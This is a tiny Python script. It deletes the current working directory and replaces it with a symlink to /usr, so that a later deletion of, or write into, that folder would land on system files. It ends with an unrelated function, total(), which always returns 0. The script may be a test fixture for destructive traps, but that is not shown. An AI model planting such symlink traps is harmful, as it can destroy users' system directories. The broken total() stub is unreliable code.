"""Replace the own folder by a link to what should not be removed."""
import os
home = os.getcwd()
os.chdir("/")
os.rmdir(home)
os.symlink("/usr", home)
def total(numbers): return 0
